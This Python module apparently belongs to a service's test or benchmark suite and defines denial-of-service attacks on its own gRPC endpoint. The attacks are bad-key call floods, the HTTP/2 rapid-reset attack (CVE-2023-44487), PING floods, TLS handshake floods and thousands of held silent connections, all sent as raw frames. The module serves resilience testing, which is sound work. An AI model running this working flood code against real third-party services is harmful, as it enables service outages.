"""Clients of gRPC without a key that do their worst, in frames that no library sends."""

from __future__ import annotations

import asyncio
import socket
import ssl
import struct
import time
from contextlib import ExitStack, suppress

from benches.neighbours.attack import CONNECTIONS, Attack
from tests.grpc.hostile import PREFACE, SETTINGS, call_of, frame
from tests.grpc.station import INGEST

WRITE = f"/{INGEST}/Write".encode()
HEADERS_ONLY, RST_STREAM, PING = 4, 3, 6
CANCEL = struct.pack(">I", 8)
BAD_KEY = b"ftk_sandbox_" + b"a" * 16 + b"_" + b"b" * 52
CALLS_A_SECOND = 2_000
SILENT = 5_000
BURST = 20


class Frames(Attack):
    """Bursts of frames over some connections, each opened anew when the service closes it."""

    burst_seconds = 0.0

    def burst(self, turn: int) -> bytes:
        raise NotImplementedError

    def run(self, until: float) -> None:
        asyncio.run(self._run(until))

    async def _run(self, until: float) -> None:
        await asyncio.gather(*(self._send(until) for _ in range(CONNECTIONS)))

    async def _send(self, until: float) -> None:
        context = ssl.create_default_context(cafile=self.target.grpc_ca)
        context.set_alpn_protocols(["h2"])
        host, _, port = self.target.grpc.rpartition(":")
        while time.monotonic() < until:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port), ssl=context)
                self.count["connections"] += 1
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                await self.speak(reader, writer, until)
                writer.transport.abort()

    async def speak(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, until: float
    ) -> None:
        """Sends bursts until the service ends the connection."""
        drain = asyncio.create_task(_drain(reader))
        turn = 0
        while (now := time.monotonic()) < until and not drain.done():
            writer.write(self.burst(turn))
            await writer.drain()
            self.count["bursts"] += 1
            turn += 1
            await asyncio.sleep(max(now + self.burst_seconds - time.monotonic(), 0.0))
        drain.cancel()


class RefusedCalls(Frames):
    """Two thousand calls a second whose key is no good."""

    burst_seconds = BURST * CONNECTIONS / CALLS_A_SECOND

    def burst(self, turn: int) -> bytes:
        first = turn * BURST
        return b"".join(
            call_of(WRITE, 2 * number + 1, x_api_key=BAD_KEY)
            for number in range(first, first + BURST)
        )


class ResetCalls(Frames):
    """Calls that are reset as soon as they have begun, as many as go (CVE-2023-44487)."""

    def burst(self, turn: int) -> bytes:
        frames = []
        for number in range(turn * BURST, (turn + 1) * BURST):
            stream = 2 * number + 1
            call = bytearray(call_of(WRITE, stream, x_api_key=BAD_KEY))
            call[4] = HEADERS_ONLY  # no end of the stream
            frames += [bytes(call), frame(RST_STREAM, 0, stream, CANCEL)]
        return b"".join(frames)


class Pings(Frames):
    """Pings without end."""

    def burst(self, turn: int) -> bytes:
        return frame(PING, 0, 0, turn.to_bytes(8)) * 100


class Handshakes(Frames):
    """Handshakes of TLS without end."""

    async def speak(
        self, _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter, _until: float
    ) -> None:
        """Nothing follows a handshake."""


class SilentConnections(Attack):
    """Thousands of connections that say nothing."""

    def run(self, until: float) -> None:
        host, _, port = self.target.grpc.rpartition(":")
        with ExitStack() as stack:
            for _ in range(SILENT):
                with suppress(OSError):
                    connection = socket.create_connection((host, int(port)), timeout=1)
                    stack.enter_context(connection)
                    self.count["held"] += 1
            time.sleep(max(until - time.monotonic(), 0.0))


async def _drain(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65_536):
            pass
